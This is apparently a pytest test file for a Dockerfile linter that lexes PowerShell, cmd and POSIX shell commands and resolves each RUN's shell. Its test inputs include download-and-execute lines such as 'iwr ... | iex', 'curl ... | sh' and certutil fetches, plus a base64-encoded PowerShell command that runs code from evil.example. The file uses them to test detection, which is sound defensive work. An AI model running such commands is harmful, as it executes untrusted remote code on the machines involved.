"""Lexers and the effective shell of every RUN."""

from __future__ import annotations

import base64

import pytest

from chainproof.lint import lex_cmd, lex_powershell, lex_sh
from chainproof.lint.model import ShellKind
from chainproof.lint.parse import parse_text
from chainproof.lint.shells import lex_script
from chainproof.lint.unit import from_dockerfile


def names(pipelines: list) -> list[list[str]]:  # type: ignore[type-arg]
    return [[c.name for c in p.commands] for p in pipelines]


def test_powershell_pipelines_aliases_and_script_blocks() -> None:
    text = (
        "$ErrorActionPreference = 'Stop'; iwr https://x/i.ps1 -UseBasicParsing | iex\n"
        "& { Start-Process msiexec.exe -Wait }; if (Test-Path C:\\x) { Remove-Item C:\\x }"
    )
    got = names(lex_powershell.lex(text))
    assert ["iwr", "iex"] in got
    assert ["start-process"] in got
    assert ["test-path"] in got
    assert ["remove-item"] in got


def test_powershell_arguments_are_unquoted() -> None:
    [pipeline] = lex_powershell.lex("Invoke-WebRequest -Uri 'https://a/b.zip' -OutFile \"b.zip\"")
    assert pipeline.commands[0].args == ("-Uri", "https://a/b.zip", "-OutFile", "b.zip")


def test_powershell_native_exe_keeps_raw_name() -> None:
    [pipeline] = lex_powershell.lex("curl.exe -k -o a https://x")
    command = pipeline.commands[0]
    assert (command.name, command.raw_name) == ("curl", "curl.exe")


def test_encoded_command_is_decoded_and_lexed() -> None:
    encoded = base64.b64encode("irm https://evil.example/a.ps1 | iex".encode("utf-16-le")).decode()
    script = lex_script(f"powershell -NoProfile -EncodedCommand {encoded}", ShellKind.CMD)
    assert ["irm", "iex"] in names(list(script.pipelines))
    assert any(c.shell == ShellKind.POWERSHELL for c in script.commands())


@pytest.mark.parametrize("flag", ["-enc", "-e", "-ec", "-EncodedCommand", "-encodedc"])
def test_encoded_command_abbreviations(flag: str) -> None:
    encoded = base64.b64encode(b"w\x00h\x00o\x00a\x00m\x00i\x00").decode()
    script = lex_script(f"powershell {flag} {encoded}", ShellKind.CMD)
    assert ["whoami"] in names(list(script.pipelines))


def test_cmd_operators_caret_and_if_blocks() -> None:
    text = "if exist C:\\a (echo one ^& two) else (del /q C:\\b) && dir || ver & type x | more"
    got = names(lex_cmd.lex(text))
    assert ["echo"] in got
    assert ["del"] in got
    assert ["dir"] in got
    assert ["ver"] in got
    assert ["type", "more"] in got
    [echo] = [p.commands[0] for p in lex_cmd.lex(text) if p.commands[0].name == "echo"]
    assert echo.args == ("one", "&", "two")


def test_cmd_parentheses_inside_arguments_are_not_blocks() -> None:
    [pipeline] = lex_cmd.lex("powershell -Command Write-Host $('a' -f 1) -NoNewline")
    assert pipeline.commands[0].name == "powershell"


def test_nested_shells_are_lexed_with_their_own_lexer() -> None:
    script = lex_script(
        'powershell -Command "iwr https://a/b | iex" && cmd /S '
        '/C "certutil -urlcache -f http://x y"',
        ShellKind.CMD,
    )
    shells = {(c.name, c.shell) for c in script.commands()}
    assert ("iex", ShellKind.POWERSHELL) in shells
    assert ("certutil", ShellKind.CMD) in shells


def test_sh_lists_pipelines_and_substitutions() -> None:
    got = names(
        lex_sh.lex('apt-get update && curl -fsSL https://x | sh -s -- ; echo "$(wget -qO- y)"')
    )
    assert ["apt-get"] in got
    assert ["curl", "sh"] in got
    assert ["wget"] in got


def test_sh_fallback_for_what_bashlex_rejects() -> None:
    got = names(lex_sh.lex("case $x in a) curl https://x | sh;; esac"))
    assert ["curl", "sh"] in got


def test_sudo_and_env_wrappers_expose_the_command() -> None:
    script = lex_script(
        "sudo -E apt-get install -y x && env A=1 curl https://x | sudo bash", ShellKind.POSIX
    )
    got = names(list(script.pipelines))
    assert ["apt-get"] in got
    assert ["curl", "bash"] in got


def _shells(text: str) -> list[tuple[str, ...]]:
    unit = from_dockerfile(parse_text(text))
    return [run.shell_argv for stage in unit.stages for run in stage.runs]


def test_platform_default_shells() -> None:
    assert _shells("FROM mcr.microsoft.com/windows/servercore:ltsc2022\nRUN dir\n") == [
        ("cmd", "/S", "/C")
    ]
    assert _shells("FROM debian:12\nRUN ls\n") == [("/bin/sh", "-c")]


def test_shell_is_inherited_from_an_earlier_stage_and_not_reset_by_arg_env() -> None:
    text = (
        "FROM mcr.microsoft.com/windows/servercore:ltsc2022 AS base\n"
        'SHELL ["powershell", "-Command"]\n'
        "RUN Write-Host one\n"
        "FROM base AS second\n"
        "ARG X=1\n"
        "ENV Y=2\n"
        "RUN Write-Host two\n"
        "FROM mcr.microsoft.com/windows/servercore:ltsc2022\n"
        "RUN dir\n"
    )
    assert _shells(text) == [
        ("powershell", "-Command"),
        ("powershell", "-Command"),
        ("cmd", "/S", "/C"),
    ]


def test_stage_inheritance_by_index_and_case_insensitive_name() -> None:
    text = (
        "FROM debian:12 AS Build\n"
        'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\n'
        "FROM build\nRUN a\n"
        "FROM 0\nRUN b\n"
    )
    assert _shells(text) == [("/bin/bash", "-o", "pipefail", "-c")] * 2


def test_shell_pragma_sets_the_base_image_shell() -> None:
    text = "# escape=`\n# hadolint shell=powershell\nFROM myorg/agent:1\nRUN Write-Host hi\n"
    assert _shells(text) == [("powershell", "-Command")]


def test_powershell_text_under_implicit_cmd_is_lexed_as_powershell() -> None:
    text = (
        "FROM jenkins/inbound-agent:3206-windowsservercore-ltsc2019\n"
        "RUN $x = 1; Write-Host $env:USER\n"
    )
    assert _shells(text) == [("powershell", "-Command")]


def test_heredoc_run_uses_the_shebang() -> None:
    text = "FROM debian:12\nRUN <<EOF\n#!/usr/bin/env pwsh\niwr https://x | iex\nEOF\n"
    unit = from_dockerfile(parse_text(text))
    [run] = unit.stages[0].runs
    assert run.text_line == 3
    assert ["iwr", "iex"] in names(list(run.script.pipelines))


def test_arg_expansion_in_from() -> None:
    text = "ARG REPO=mcr.microsoft.com/windows/servercore\nARG TAG=ltsc2022\nFROM ${REPO}:$TAG\n"
    unit = from_dockerfile(parse_text(text))
    assert unit.stages[0].base == "mcr.microsoft.com/windows/servercore:ltsc2022"
    assert unit.stages[0].windows
    assert unit.stages[0].servercore
